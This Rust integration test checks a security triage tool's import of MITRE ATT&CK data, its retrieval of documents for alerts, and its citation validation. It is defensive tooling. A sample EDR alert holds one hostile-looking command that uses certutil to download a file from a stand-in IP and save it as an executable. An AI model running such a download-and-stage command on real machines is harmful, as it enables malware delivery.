//! All of ATT&CK, imported: the shipped facts are what the importer writes, software,
//! detection strategies and analytics become documents tied to their techniques, an alert
//! naming a tool retrieves that tool, and a citation of it is accepted exactly when it was
//! retrieved.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};
use triage::corpus::{DocKind, Document};

fn bundle() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/attack/enterprise-attack.json");
    if p.exists() {
        return Some(p);
    }
    assert!(std::env::var("CI").is_err(), "{} is missing", p.display());
    eprintln!("skipped: {} is not present", p.display());
    None
}

fn triage(data_dir: &Path, args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_triage")).arg("--data-dir").arg(data_dir).args(args).output().unwrap();
    assert!(out.status.success(), "triage {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).to_string()
}

#[tokio::test]
async fn import_ships_reproducible_facts_and_indexes_software_and_detections() {
    let Some(bundle) = bundle() else { return };
    let data = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let written = out.path().join("attack.json");
    triage(data.path(), &["attack", "import", bundle.to_str().unwrap(), "--write-catalog", written.to_str().unwrap()]);

    // The shipped catalog is exactly what the importer writes from the bundle.
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("catalog");
    for name in ["attack.json", "attack-relations.json"] {
        let ours = std::fs::read_to_string(shipped.join(name)).unwrap();
        let fresh = std::fs::read_to_string(out.path().join(name)).unwrap();
        assert!(ours == fresh, "catalog/{name} is not what `triage attack import --write-catalog` writes: regenerate it");
    }
    // Facts only: no description prose in the shipped relations.
    let relations = std::fs::read_to_string(out.path().join("attack-relations.json")).unwrap();
    assert!(!relations.contains("\"description\"") && !relations.contains("(Citation:"));

    // Documents: software, strategies and analytics, tied to their techniques, with prose.
    let docs: Vec<Document> = triage::corpus::read_documents(&data.path().join("imported/attack.jsonl")).unwrap();
    let get = |r: &str| docs.iter().find(|d| d.doc_ref() == r).unwrap_or_else(|| panic!("{r} not imported"));
    let certutil = get("attack:S0160");
    assert_eq!(certutil.kind, DocKind::Attack);
    assert!(certutil.techniques.contains(&"T1105".to_string()));
    assert!(certutil.text.lines().count() > 5, "the bundle's description is in the data dir's document");
    let det = get("attack:DET0157");
    assert_eq!(det.techniques, vec!["T1558.003"]);
    let an = get("attack:AN0444");
    assert_eq!(an.techniques, vec!["T1558.003"]);
    assert!(an.text.contains("WinEventLog:Security EventCode=4769"), "{}", an.text);
    assert!(docs.iter().filter(|d| d.id.starts_with("AN")).count() > 1500);

    // `attack show` knows every kind of ID.
    let show: Value = serde_json::from_str(&triage(data.path(), &["attack", "show", "S0160"])).unwrap();
    assert_eq!(show["kind"], "software");
    assert!(show["techniques"].as_array().unwrap().iter().any(|t| t["technique_id"] == "T1105"));
    let show: Value = serde_json::from_str(&triage(data.path(), &["attack", "show", "t1558.003"])).unwrap();
    assert!(show["software_count"].as_u64().unwrap() >= 1);
    assert!(show["analytics"].as_array().unwrap().iter().any(|a| a["id"] == "AN0444"));

    // An alert naming a tool retrieves it; citing it is accepted, citing what wasn't
    // retrieved is not.
    let settings = common::settings(data.path(), &[]);
    let app = triage::app::App::open(&settings, None, &|_, _| {}).unwrap();
    let alert = json!({
        "id": "edr-77", "source": "edr", "time": "2026-06-01T03:12:44Z",
        "rule": {"name": "Suspicious download with a signed Windows utility", "severity": "medium"},
        "fields": {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe"}
    });
    let alerts = triage::alert::parse_all(&[alert]).unwrap();
    let hits = app.index.search_alerts(&alerts, triage::retrieval::Limits::default()).unwrap();
    let refs: Vec<String> = hits.iter().map(|h| h.doc_ref()).collect();
    assert!(refs.contains(&"attack:S0160".to_string()), "{refs:?}");
    assert!(refs.iter().any(|r| r.starts_with("attack:DET") || r.starts_with("attack:AN")), "{refs:?}");
    let retrieved: Vec<Document> = hits.iter().map(|h| h.doc.as_ref().clone()).collect();
    let text = triage::validate::cited_text("attack:S0160", &alerts, &retrieved).unwrap();
    assert!(text.starts_with("S0160 certutil"));
    assert!(triage::validate::cited_text("attack:S0002", &alerts, &retrieved).is_err());
    assert!(triage::validate::cited_text("attack:AN0444", &alerts, &retrieved).is_err() || refs.contains(&"attack:AN0444".to_string()));
}
